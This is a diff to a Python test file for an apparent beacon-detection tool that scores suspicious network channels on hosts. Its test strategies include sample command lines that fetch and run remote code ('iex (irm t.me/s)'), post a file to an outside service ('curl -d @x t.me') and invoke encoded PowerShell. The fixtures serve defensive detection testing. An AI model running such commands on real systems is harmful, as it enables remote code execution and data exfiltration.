@@ -4,39 +4,46 @@ import math
 
 import polars as pl
 import pytest
+from channel_rows import channel, observed
 from hypothesis import given
 from hypothesis import strategies as st
 
 from beacon import evidence, rank
 from beacon.settings import RankSettings
 
-channel = st.fixed_dictionaries(
+channels = st.fixed_dictionaries(
     {
         "host": st.sampled_from(["a", "b", "c"]),
-        "process": st.sampled_from(["python.exe", "cmd.exe"]),
+        "process": st.sampled_from(["python.exe", "cmd.exe", "mshta.exe"]),
         "domain": st.sampled_from(["raw.githubusercontent.com", "t.me", "10.0.0.1"]),
-        "service": st.sampled_from(["", "t.me"]),
-        "service_kind": st.sampled_from(["", "chat", "office documents"]),
-        "parents": st.lists(st.sampled_from(["cmd.exe", "winword.exe"]), max_size=2),
-        "command_line": st.none() | st.just("x -enc JAB"),
-        "polls": st.integers(0, 50),
+        "matched_domains": st.lists(st.sampled_from(["t.me", "github.com"]), max_size=2),
+        "parents": st.lists(st.sampled_from(["cmd.exe", "winword.exe", "code.exe"]), max_size=2),
+        "paths": st.lists(st.sampled_from(["c:\\temp\\x.exe", "c:\\python\\x.exe"]), max_size=2),
+        "original_names": st.lists(st.sampled_from(["curl.exe", "python.exe"]), max_size=1),
+        "accounts": st.lists(st.sampled_from(["jdoe", "svc-web", "system"]), max_size=2),
+        "command_lines": st.lists(
+            st.sampled_from(["x -enc JAB", "iex (irm t.me/s)", "curl -d @x t.me"]), max_size=2
+        ),
+        "status": st.sampled_from(["scored", "insufficient"]),
+        "polls": st.integers(0, 5000),
+        "events": st.integers(0, 5000),
+        "active_hours": st.integers(0, 24),
         "timing_evidence": st.floats(-9, 9),
+        "jitter_fraction": st.none() | st.floats(0, 1),
+        "period_seconds": st.none() | st.floats(1, 9e4),
         "is_encoded_cmd": st.booleans(),
-        "is_scheduled_or_service": st.booleans(),
-        "is_scripting_host": st.booleans(),
         "suspicious_parent": st.booleans(),
-        "prevalence_hosts": st.integers(1, 40),
-        "fleet_hosts": st.integers(1, 40),
+        "host_attended": st.none() | st.booleans(),
     }
 )
-SCHEMA = {"parents": pl.List(pl.String), "command_line": pl.String, "fleet_hosts": pl.Int64}
 
 
 def weigh(rows: list[dict[str, object]], base_rate: float = 1e-3) -> pl.DataFrame:
-    return evidence.weigh(pl.DataFrame(rows, schema_overrides=SCHEMA), base_rate)
+    frame = observed(*[channel(**row) for row in rows], fleet_hosts=40)
+    return evidence.weigh(frame, base_rate)
 
 
-@given(rows=st.lists(channel, min_size=1, max_size=5), base_rate=st.floats(1e-6, 0.5))
+@given(rows=st.lists(channels, min_size=1, max_size=5), base_rate=st.floats(1e-6, 0.5))
 def test_weights_and_base_rate_sum_to_the_log_odds(
     rows: list[dict[str, object]], base_rate: float
 ) -> None:
@@ -45,12 +52,13 @@ def test_weights_and_base_rate_sum_to_the_log_odds(
         assert row["log_odds"] == pytest.approx(total, abs=1e-9)
 
 
-@given(rows=st.lists(channel, min_size=1, max_size=5))
+@given(rows=st.lists(channels, min_size=1, max_size=5))
 def test_every_term_is_listed_and_only_what_fired_has_weight(
     rows: list[dict[str, object]],
 ) -> None:
     for row in weigh(rows).iter_rows(named=True):
-        assert [e["name"] for e in row["evidence"]] == [term.name for term in evidence.TERMS]
+        names = [evidence.AVERAGE, *(term.name for term in evidence.TERMS)]
+        assert [e["name"] for e in row["evidence"]] == names
         for entry in row["evidence"]:
             assert entry["state"] in {"fired", "not fired", "not observable"}
             if entry["state"] != "fired":
@@ -59,30 +67,33 @@ def test_every_term_is_listed_and_only_what_fired_has_weight(
                 assert entry["value"] == ""
 
 
-def test_what_cannot_be_seen_is_not_observable() -> None:
-    row = dict.fromkeys(("host", "process", "domain", "service", "service_kind"), "")
-    blind = {
-        **row, "parents": [], "command_line": None, "polls": 2, "timing_evidence": 0.0,
-        "is_encoded_cmd": False, "is_scheduled_or_service": False, "is_scripting_host": False,
-        "suspicious_parent": False, "prevalence_hosts": 1, "fleet_hosts": 1,
+def test_of_a_channel_that_nothing_is_known_of_only_counts_are_observable() -> None:
+    states = {e["name"]: e["state"] for e in weigh([{}])["evidence"][0]}
+    seen = {name for name, state in states.items() if state != "not observable"}
+    assert seen == {
+        evidence.AVERAGE, "hundreds of polls", "system tool", "rare in fleet",
+        "common in fleet",
     }  # fmt: skip
-    states = {e["name"]: e["state"] for e in weigh([blind])["evidence"][0]}
-    assert set(states.values()) == {"not observable"}
 
 
-def test_prevalence_of_a_channel_is_that_of_its_rarest_parent() -> None:
-    frame = pl.DataFrame(
-        {
-            "host": ["a", "b", "c", "d"],
-            "process": ["curl.exe"] * 4,
-            "domain": ["github.com"] * 4,
-            "service": ["github.com"] * 4,
-            "parents": [["x"], ["x"], ["x", "rare"], []],
-        }
+def test_what_is_not_observable_counts_as_average() -> None:
+    """Hiding a term moves the score to where the mean over its values lies, not to 'no'."""
+    weights = evidence.Weights({"system tool": 2.0}, {"system tool": 0.25}, {}, 0.01, {})
+    tool, other = (
+        evidence.weigh(observed(channel(process=name)), 0.5, weights)["log_odds"].item()
+        for name in ("mshta.exe", "python.exe")
     )
-    counted = evidence.count_prevalence(frame, fleet_hosts=9)
-    assert counted["prevalence_hosts"].to_list() == [3, 3, 1, 1]
-    assert counted["fleet_hosts"].to_list() == [9] * 4
+    assert 0.25 * tool + 0.75 * other == pytest.approx(0.0)
+    unknown = evidence.Weights({"office parent": 2.0}, {"office parent": 0.25}, {}, 0.01, {})
+    assert evidence.weigh(observed(channel()), 0.5, unknown)["log_odds"].item() == 0.0
+
+
+@given(rates=st.tuples(st.floats(1e-6, 0.9), st.floats(1e-6, 0.9)))
+def test_the_base_rate_moves_all_scores_alike(rates: tuple[float, float]) -> None:
+    rows = [{"process": "mshta.exe"}, {"line": "powershell -enc JAB"}]
+    low, high = (weigh(rows, rate)["log_odds"] for rate in rates)
+    expected = evidence.logit(rates[1]) - evidence.logit(rates[0])
+    assert (high - low).to_list() == pytest.approx([expected] * 2, abs=1e-9)
 
 
 def test_the_order_is_total_and_the_names_are_stable() -> None:
